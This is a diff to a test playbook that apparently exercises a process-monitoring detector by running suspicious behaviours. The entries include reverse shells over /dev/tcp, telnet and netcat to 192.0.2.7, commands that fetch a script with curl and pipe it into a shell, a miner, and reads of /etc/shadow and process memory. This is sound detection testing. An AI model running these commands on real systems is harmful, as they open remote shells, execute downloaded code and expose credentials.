@@ -33,6 +33,7 @@ from tests.playbooks.guest_acts import (
     on_pipe,
     on_socket,
     on_terminal,
+    onto,
     opened,
     packets,
     program,
@@ -60,13 +61,13 @@ _SLEEP_ENCODED = "c2xlZXAgMTAwMDAwMAo="
 """`sleep 1000000`, of base64."""
 
 
-def _setuid(place: str, then: str) -> Act:
-    """Be started by a user, become root, and do something then."""
+def _setuid(place: str, then: str, first: str = _BECOME_ROOT) -> Act:
+    """Be started by a user, become root altogether, and do something then."""
 
     def act() -> object:
         program(place, os.path.realpath(PYTHON))
         Path(place).chmod(0o4755)
-        return as_user(run(place, place, "-ISB", "-c", _BECOME_ROOT + then))()
+        return as_user(run(place, place, "-ISB", "-c", first + then))()
 
     return act
 
@@ -102,6 +103,16 @@ def _deleted(place: str, *, has_name: bool = True) -> Act:
     return act
 
 
+def _input(place: str) -> Act:
+    """Have a file with a command as input."""
+    return lambda: onto(os.open(script(place, f"sleep {LONG}\nexit\n"), os.O_RDONLY), 0)
+
+
+def _output(place: str) -> Act:
+    """Have a file as output."""
+    return lambda: onto(os.open(place, os.O_WRONLY | os.O_CREAT), 1)
+
+
 def _shell(command: str, place: str = SH) -> Act:
     """Have a shell do a command."""
     return run(place, place.rpartition("/")[2], "-c", command)
@@ -129,6 +140,8 @@ _IN_HERE: Mapping[str, Act] = {
     "reverse-bash-read": _shell(
         f"exec 5<>/dev/tcp/{HERE}/{PORT}; cat <&5 | while read a; do $a 2>&5 >&5; done", BASH
     ),
+    "reverse-bash-instead": _shell(f"exec bash -i &>/dev/tcp/{HERE}/{PORT} <&1", BASH),
+    "reverse-telnet": _shell("telnet 192.0.2.7 4444 | sh | telnet 192.0.2.7 4445"),
     "reverse-python": run(PYTHON, "python3", "-c", _REVERSE_PYTHON),
     "reverse-fifo": _shell(_REVERSE_FIFO),
     "reverse-netcat": wait_as("/usr/bin/nc", "nc", "192.0.2.7", "4444", "-e", "/bin/sh"),
@@ -139,6 +152,8 @@ _IN_HERE: Mapping[str, Act] = {
         in_turn(on_pipe, run(SH, "sh")), wait_as("/usr/sbin/nginx", "nginx: worker process")
     ),
     "curl-to-sh": _shell("curl -fsSL http://192.0.2.7/x | sh"),
+    "curl-in-bash": _shell("bash <(curl -s http://192.0.2.7/x); true", BASH),
+    "curl-in-sh": _shell('sh -c "$(curl -fsSL http://192.0.2.7/x)"'),
     "base64-to-sh": _shell(f"echo {_SLEEP_ENCODED} | base64 -d | sh"),
     "eval-base64": _shell(f"eval $(echo {_SLEEP_ENCODED} | base64 -d); true"),
     "miner": wait_as("/usr/bin/xmrig"),
@@ -164,6 +179,7 @@ _PROGRAMS: Mapping[str, Act] = {
     "script-itself": _script("/var/tmp/y.sh"),
     "script-by-python": _script("/dev/shm/z.py", PYTHON, "python3", "-u"),
     "script-in-folder": in_turn(lambda: os.chdir("/tmp"), _script("w.sh", SH, "sh")),
+    "script-as-input": in_turn(_input("/tmp/v.sh"), run(SH, "sh", "-s")),
     "root-of-user": _of_user(_setuid("/usr/local/bin/helper", f"import time; time.sleep({LONG})")),
     "root-adopted": _adopting,
     "memory-executable": compiled,
@@ -180,6 +196,7 @@ _PROGRAMS: Mapping[str, Act] = {
         "/usr/bin/sleep", "sleep", LONG, environment={"LD_PRELOAD": "/opt/lib/libx.so"}
     ),
     "memory-of-other": opened("/proc/1/mem", os.O_RDWR),
+    "memory-of-thread": opened("/proc/1/task/1/mem"),
     "memory-of-kernel": opened("/proc/kcore"),
     "memory-of-machine": opened("/dev/mem"),
     "passwords": opened("/etc/shadow"),
@@ -197,6 +214,18 @@ BY_KERNEL = "/usr/sbin/helper"
 DELETED = ("/usr/local/bin/gone", "/var/tmp/gone")
 """What is deleted once all run."""
 
+UNFOUND: Mapping[str, Act] = {
+    # Python closes its script, and memq does not know in which folder a process is.
+    "script-by-python-in-folder": in_turn(
+        lambda: os.chdir("/dev/shm"), _script("u.py", PYTHON, "python3")
+    ),
+    # memq knows of a socket that it is one, not which: without a ring, nothing is mapped.
+    "packets": packets,
+    # The real user is the user still; memq does not know the effective one.
+    "shell-of-setuid": _setuid("/usr/local/bin/backup", f"import time; time.sleep({LONG})", ""),
+}
+"""What a rule should find, and none can; each with the reason."""
+
 FIRST: Mapping[str, Act] = {"listener": listening}
 """What others need."""
 ORDINARY: Mapping[str, Act] = {
@@ -212,6 +241,10 @@ ORDINARY: Mapping[str, Act] = {
     "python-script": _script("/usr/lib/service.py", PYTHON, "python3"),
     "python-client": connected,
     "sh-script": _script("/opt/lab/job.sh", SH, "sh"),
+    "sh-input-file": in_turn(_input("/tmp/data"), run(SH, "sh", "-c", f"sleep {LONG}; true")),
+    "sh-output-file": in_turn(
+        _output("/tmp/out"), run(SH, "sh", "-c", f"{{ sleep {LONG}; }} >/dev/null; true")
+    ),
     "curl-to-file": _shell("curl -fsSL http://192.0.2.7/x -o /tmp/x; true"),
     "nginx": with_child(
         wait_as("/usr/sbin/nginx", "nginx: worker process"),
@@ -234,14 +267,13 @@ ORDINARY: Mapping[str, Act] = {
     "library-of-site": loaded("/usr/local/lib/libx.so"),
     "passwd": opened("/etc/passwd"),
     "null-and-maps": in_turn(opened("/dev/null", os.O_RDWR), opened("/proc/1/maps")),
-    "packets": packets,
     "file": opened("/var/log/kept.log"),
 }
 
 
 def tools() -> None:
     """Put programs where commands look for them, and files that are opened."""
-    for name in ("curl", "nc"):
+    for name in ("curl", "nc", "telnet"):
         program(f"/usr/bin/{name}")
     for place in ("/etc/passwd", "/etc/shadow", "/var/log/kept.log"):
         script(place, "root:*:0:0:root:/:/usr/bin/sh\n")
